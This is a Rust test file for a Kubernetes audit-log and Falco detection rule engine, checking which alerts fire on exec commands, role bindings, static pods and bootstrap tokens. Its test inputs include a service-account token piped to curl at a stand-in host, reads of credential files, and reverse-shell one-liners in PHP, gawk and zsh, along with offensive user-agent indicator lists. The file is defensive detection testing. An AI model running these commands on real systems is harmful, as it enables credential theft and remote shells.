        assert_eq!(alerts[0].source, event::AlertSource::Falco);
        assert_eq!(alerts[0].name.as_deref(), Some("web-0"));
    }
    check(
        falco("Contact K8S API Server From Container", "Notice"),
        &[],
    );
    check(falco("Read sensitive file", "Informational"), &[]);
    let alert = alerts_for(&falco("Terminal shell in container", "Warning").build()).remove(0);
    assert_eq!(
        alert.summary,
        "Falco Terminal shell in container (Warning) in pod team-a/web-0"
    );
}

#[test]
fn alert_follows_the_contract() {
    let event = audit("create", "pods")
        .subresource("exec")
        .name("web-0")
        .stage("ResponseStarted")
        .code(101)
        .user("alice@example.com", ActorKind::Human)
        .impersonating("bob")
        .exec(&["cat", "/etc/shadow\nx"])
        .build();
    // Reading /etc/shadow also raises the credential-access rule; this test is about pod_exec.
    let alerts: Vec<_> = alerts_for(&event)
        .into_iter()
        .filter(|alert| alert.rule_id == "k8s.pod_exec")
        .collect();
    assert_eq!(alerts.len(), 1);
    let alert = &alerts[0];
    assert_eq!(
        alert.alert_id,
        event::alert_id("k8s.pod_exec", std::slice::from_ref(&event.event_id))
    );
    assert_eq!(alert.event_ids, std::slice::from_ref(&event.event_id));
    assert_eq!(alert.audit_ids, [event.audit_id.clone().unwrap()]);
    assert_eq!(alert.time, event::format_rfc3339_micros(event.time));
    assert_eq!(alert.actor.as_deref(), Some("alice@example.com as bob"));
    assert_eq!(alert.cluster, "test");
    assert_eq!(alert.namespace.as_deref(), Some("team-a"));
    assert_eq!(alert.resource.as_deref(), Some("pods"));
    assert_eq!(alert.name.as_deref(), Some("web-0"));
    assert_eq!(alert.source, event::AlertSource::K8sAudit);
    // One line, even when a value holds a newline.
    assert_eq!(
        alert.summary,
        "alice@example.com as bob ran exec in pod team-a/web-0: cat /etc/shadow x"
    );
    // Re-running detection gives the same alerts.
    assert_eq!(alerts_for(&event), alerts_for(&event));
}

#[test]
fn builtin_summaries_render_without_placeholders() {
    // One matching event per rule, each rendered; a summary must not contain template braces.
    let events = [
        audit("list", "secrets").build(),
        audit("create", "clusterrolebindings").raw(binding_body("cluster-admin", json!([{"kind": "User", "name": "m"}]))).build(),
        audit("create", "clusterroles").raw(json!({"requestObject": {"rules": [{"verbs": ["*"], "resources": ["*"]}]}})).build(),
        audit("create", "pods").subresource("exec").stage("ResponseStarted").build(),
        audit("create", "pods").pod(pod_spec("Pod", &[("a", "nginx", Some(true))])).volume("/").edit_pod(|spec| spec.host_pid = true).image(image("x.io/a", "x.io", "a", None, None)).build(),
        audit("delete", "networkpolicies").api_group("networking.k8s.io").build(),
        audit("patch", "namespaces").raw(json!({"requestObject": {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}})).build(),
        audit("create", "serviceaccounts").subresource("token").build(),
        audit("get", "pods").user("system:anonymous", ActorKind::Anonymous).build(),
        falco("Terminal shell in container", "Error").build(),
    ];
    let mut seen = std::collections::BTreeSet::new();
    for event in &events {
        for alert in alerts_for(event) {
            assert!(
                !alert.summary.contains('{') && !alert.summary.contains('}'),
                "{}",
                alert.summary
            );
            assert!(!alert.summary.is_empty());
            seen.insert(alert.rule_id);
        }
    }
    // Every contract rule is among them (the rest of the pack renders in its inline tests).
    for id in CONTRACT_RULE_IDS {
        assert!(seen.contains(*id), "{id} did not fire");
    }
}

#[test]
fn an_exec_reading_credentials_raises_one_command_alert() {
    let exec = |command: &[&str]| {
        audit("create", "pods")
            .subresource("exec")
            .name("web-0")
            .stage("ResponseStarted")
            .code(101)
            .exec(command)
    };
    let credentials = "k8s.exec_credential_access";
    let suspicious = "k8s.exec_suspicious_command";
    // A token read piped into a download is the credential rule's alone.
    check(
        exec(&[
            "sh",
            "-c",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.9/t",
        ]),
        &["k8s.pod_exec", credentials],
    );
    check(
        exec(&["wget", "-qO-", "http://[fd00:ec2::254]/latest/api/token"]),
        &["k8s.pod_exec", credentials],
    );
    check(
        exec(&["cat", "/var/run/secrets/azure/tokens/azure-identity-token"]),
        &["k8s.pod_exec", credentials],
    );
    // A download without credentials stays the suspicious-command rule's.
    check(
        exec(&["curl", "-s", "http://203.0.113.9/x.sh"]),
        &["k8s.pod_exec", suspicious],
    );
    // A ResponseComplete record judged on its own alerts too (a detector keeps one alert per
    // audit ID, on the first stage it sees).
    check(
        exec(&["cat", "/root/.aws/credentials"]).stage("ResponseComplete"),
        &["k8s.pod_exec", credentials],
    );
    check(exec(&["cat", "/root/.aws/credentials"]).denied(), &[]);
}

#[test]
fn indicator_match_is_quiet_by_default_and_fires_on_configured_indicators() {
    let rule = "k8s.indicator_match";
    let request = |ips: &[&str], agent: &str| {
        audit("list", "pods")
            .source_ips(ips)
            .user_agent(agent)
            .build()
    };
    let kubectl = "kubectl/v1.32.0 (linux/amd64) kubernetes/0123abc";
    // The built-in lists are empty: nothing is an indicator.
    check(request(&["203.0.113.66"], "evil-scanner/2.1"), &[]);

    // What `[detect.lists]` in the configuration does.
    let config: detect::Config = toml::from_str(
        r#"
        [lists]
        indicator_ips = ["203.0.113.0/24", "2001:db8::7"]
        indicator_user_agents = ["evil-scanner/*", "*masscan*"]
        "#,
    )
    .unwrap();
    let rules = config.load_rules().unwrap();
    assert_eq!(rules.len(), RuleSet::builtin().unwrap().len());
    let engine = detect::Engine::new(rules);
    let fires = |event: &event::Event| {
        let mut alerts = Vec::new();
        engine.evaluate(event, &mut alerts);
        alerts.into_iter().find(|alert| alert.rule_id == rule)
    };
    let alert = fires(&request(&["203.0.113.66"], kubectl)).expect("a listed network");
    assert_eq!(alert.severity, Severity::High);
    assert_eq!(
        alert.summary,
        format!(
            "alice@example.com reached the API from a flagged source 203.0.113.66 ({kubectl}): list /api/v1/namespaces/team-a/pods"
        )
    );
    assert!(fires(&request(&["2001:db8::7"], kubectl)).is_some());
    assert!(fires(&request(&["10.0.0.7"], "evil-scanner/2.1")).is_some());
    assert!(
        fires(&request(
            &["10.0.0.7"],
            "Mozilla/5.0 (compatible; masscan/1.3)"
        ))
        .is_some()
    );
    // Any sourceIPs entry counts, even one an X-Forwarded-For header put there.
    assert!(fires(&request(&["203.0.113.9", "10.0.0.1"], kubectl)).is_some());
    // Denied requests and failed logins (logged at ResponseStarted, without a user) count.
    let mut denied = request(&["203.0.113.66"], kubectl);
    denied.decision = Some(event::Decision::Forbid);
    denied.response_code = Some(403);
    assert!(fires(&denied).is_some());
    let mut failed_login = request(&["203.0.113.66"], "curl/8.5.0");
    failed_login.stage = Some("ResponseStarted".to_owned());
    failed_login.user = None;
    failed_login.actor_kind = None;
    failed_login.decision = Some(event::Decision::Forbid);
    failed_login.response_code = Some(401);
    assert!(fires(&failed_login).is_some());
    // Near misses: an unlisted address and agent, a glob that does not match.
    assert!(fires(&request(&["198.51.100.1"], kubectl)).is_none());
    assert!(fires(&request(&["2001:db8::8"], kubectl)).is_none());
    assert!(fires(&request(&["10.0.0.7"], "evil-scanner")).is_none());

    // One list filled, the other left empty: both compile, only the filled one matches.
    let agents_only = detect::Config {
        lists: [(
            "indicator_user_agents".to_owned(),
            vec!["evil-scanner/*".to_owned()],
        )]
        .into(),
        ..detect::Config::default()
    };
    let engine = detect::Engine::new(agents_only.load_rules().unwrap());
    let fired = |event: &event::Event| {
        let mut alerts = Vec::new();
        engine.evaluate(event, &mut alerts);
        alerts.iter().any(|alert| alert.rule_id == rule)
    };
    assert!(fired(&request(&["10.0.0.7"], "evil-scanner/2.1")));
    assert!(!fired(&request(&["203.0.113.66"], kubectl)));
}

#[test]
fn reverse_shells_without_a_shell_redirect() {
    // Each is one exec; the command line is matched as a whole and argument by argument.
    let exec = |command: &[&str]| {
        audit("create", "pods")
            .subresource("exec")
            .name("web-0")
            .stage("ResponseStarted")
            .code(101)
            .exec(command)
    };
    let fired = &["k8s.pod_exec", "k8s.exec_suspicious_command"];
    // PHP inline code opening a socket.
    check(
        exec(&[
            "php",
            "-r",
            "$s=fsockopen(\"198.51.100.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
        ]),
        fired,
    );
    // A PHP script opening a socket (no -r).
    check(
        exec(&[
            "php",
            "/tmp/x.php",
            "$sock = fsockopen ('198.51.100.4', 4444);",
        ]),
        fired,
    );
    // gawk's network special file.
    check(
        exec(&[
            "awk",
            "BEGIN {s = \"/inet/tcp/0/198.51.100.4/4444\"; while (1) {printf \"> \" |& s; s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}",
        ]),
        fired,
    );
    // zsh's TCP module.
    check(
        exec(&[
            "zsh",
            "-c",
            "zmodload zsh/net/tcp && ztcp 198.51.100.4 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
        ]),
        fired,
    );
    // Near misses: ordinary PHP, awk and zsh use.
    check(exec(&["php", "-v"]), &["k8s.pod_exec"]);
    check(
        exec(&["php", "artisan", "migrate", "--force"]),
        &["k8s.pod_exec"],
    );
    check(
        exec(&["awk", "-F:", "{print $1}", "/etc/passwd"]),
        &["k8s.pod_exec"],
    );
    check(exec(&["zsh", "-c", "echo $ZSH_VERSION"]), &["k8s.pod_exec"]);
    check(exec(&["cat", "/proc/net/tcp"]), &["k8s.pod_exec"]);
}

#[test]
fn azurehound_and_microscanner_are_offensive_user_agents() {
    let rule = "k8s.offensive_tool_user_agent";
    for agent in [
        "azurehound/v2.1.7",
        "AzureHound/2.0.5",
        "micro-scanner",
        "microscanner/1.0",
    ] {
        let mut event = audit("list", "pods").namespace(None).build();
        event.user_agent = Some(agent.to_owned());
        check(event, &[rule]);
    }
    let mut kubectl = audit("list", "pods").namespace(None).build();
    kubectl.user_agent = Some("kubectl/v1.32.0 (linux/amd64) kubernetes/70d3cc9".to_owned());
    check(kubectl, &[]);
}

#[test]
fn privileged_role_binding_leaves_cluster_admin_to_its_own_rule() {
    let rule = "k8s.privileged_role_binding";
    let binding = |resource: &str, role: &str, subjects: serde_json::Value| {
        audit("create", resource)
            .api_group("rbac.authorization.k8s.io")
            .level("Request")
            .code(201)
            .raw(binding_body(role, subjects))
    };
    let bob = json!([{"kind": "User", "name": "bob"}]);
    for role in [
        "admin",
        "edit",
        "system:node",
        "system:kube-scheduler",
        "system:controller:namespace-controller",
    ] {
        check(binding("clusterrolebindings", role, bob.clone()), &[rule]);
    }
    // In a system namespace a RoleBinding counts; in a team namespace it is routine.
    check(
        binding("rolebindings", "admin", bob.clone()).namespace(Some("kube-system")),
        &[rule],
    );
    check(binding("rolebindings", "admin", bob.clone()), &[]);
    // One alert per binding: cluster-admin and system:masters stay with cluster_admin_binding.
    check(
        binding("clusterrolebindings", "cluster-admin", bob.clone()),
        &["k8s.cluster_admin_binding"],
    );
    check(
        binding(
            "clusterrolebindings",
            "edit",
            json!([{"kind": "Group", "name": "system:masters"}]),
        ),
        &["k8s.cluster_admin_binding"],
    );
    // Near misses: view, the API server, GitOps, denied, a dry run.
    check(binding("clusterrolebindings", "view", bob.clone()), &[]);
    check(
        binding("clusterrolebindings", "system:node", bob.clone())
            .user("system:apiserver", ActorKind::System),
        &[],
    );
    check(
        binding("clusterrolebindings", "edit", bob.clone()).user(
            "system:serviceaccount:flux-system:kustomize-controller",
            ActorKind::Serviceaccount,
        ),
        &[],
    );
    check(
        binding("clusterrolebindings", "edit", bob.clone()).denied(),
        &[],
    );
    check(
        binding("clusterrolebindings", "edit", bob)
            .uri("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?dryRun=All"),
        &[],
    );
}

#[test]
fn unexpected_static_pods() {
    let kubelet = |name: &str, namespace: &str| {
        audit("create", "pods")
            .namespace(Some(namespace))
            .name(name)
            .code(201)
            .user("system:node:worker-2", ActorKind::Node)
            .groups(&["system:nodes", "system:authenticated"])
    };
    // At Metadata level the pod spec is unknown: high.
    check(
        kubelet("backdoor-worker-2", "default"),
        &["k8s.static_pod_created"],
    );
    // A privileged one: critical instead, and the pod-spec rules stay quiet (kubelets are
    // controllers to them).
    let privileged = kubelet("backdoor-worker-2", "kube-system")
        .level("Request")
        .pod(pod_spec(
            "Pod",
            &[("c", "docker.io/library/alpine:3.20", Some(true))],
        ))
        .volume("/");
    assert_eq!(
        severity_of("k8s.static_pod_privileged", privileged),
        Severity::Critical
    );
    check(
        kubelet("backdoor-worker-2", "kube-system")
            .level("Request")
            .pod(pod_spec(
                "Pod",
                &[("c", "docker.io/library/alpine:3.20", Some(true))],
            )),
        &["k8s.static_pod_privileged"],
    );
    // Expected static pods, in the system namespaces only.
    check(kubelet("etcd-cp-1", "kube-system"), &[]);
    check(kubelet("haproxy-cp-1", "kube-system"), &[]);
    check(kubelet("etcd-cp-1", "default"), &["k8s.static_pod_created"]);
    // The API server's own mirror pod has its own rule.
    check(
        kubelet("kube-apiserver-cp-1", "kube-system"),
        &["k8s.apiserver_manifest_changed"],
    );
    // A name the API server did not log: nothing to judge.
    let mut nameless = kubelet("x", "default").build();
    nameless.name = None;
    check(nameless, &[]);
}

#[test]
fn bootstrap_tokens_join_nodes_and_nothing_else() {
    let rule = "k8s.bootstrap_token_misuse";
    let token = |verb: &str, resource: &str| {
        audit(verb, resource)
            .user("system:bootstrap:k3x9qa", ActorKind::System)
            .groups(&["system:bootstrappers", "system:authenticated"])
    };
    check(
        token("list", "secrets")
            .namespace(Some("kube-system"))
            .denied(),
        &[rule],
    );
    check(token("create", "pods").code(201), &[rule]);
    check(
        token("update", "certificatesigningrequests")
            .subresource("approval")
            .namespace(None),
        &[rule],
    );
    // Joining: the CSR, kubeadm's ConfigMaps, the node name check, discovery.
    check(
        token("create", "certificatesigningrequests").namespace(None),
        &[],
    );
    check(
        token("get", "configmaps")
            .namespace(Some("kube-system"))
            .name("kubelet-config"),
        &[],
    );
    check(token("get", "nodes").namespace(None).name("worker-4"), &[]);
    let mut version = token("get", "").namespace(None).uri("/version").build();
    version.resource = None;
    check(version, &[]);
    // Other ConfigMaps are not part of a join.
    check(
        token("get", "configmaps")
            .namespace(Some("kube-system"))
            .name("aws-auth"),
        &[rule],
    );
}

#[test]
fn access_config_changes_are_high_and_deletes_medium() {
    let rule = "k8s.access_config_modified";
    let config_map = |verb: &str, namespace: &str, name: &str| {
        audit(verb, "configmaps")
            .namespace(Some(namespace))
            .name(name)
    };
    assert_eq!(
        severity_of(rule, config_map("patch", "argocd", "argocd-rbac-cm")),
        Severity::High
    );
    assert_eq!(
        severity_of(rule, config_map("update", "kube-system", "kube-proxy")),
        Severity::High
    );
    assert_eq!(
        severity_of(rule, config_map("delete", "argocd", "argocd-cm")),
        Severity::Medium
    );
    // kube-proxy's ConfigMap counts in the system namespaces only; creates are installs.
    check(config_map("patch", "team-a", "kube-proxy"), &[]);
    check(
        config_map("create", "argocd", "argocd-rbac-cm").code(201),
        &[],
    );
}
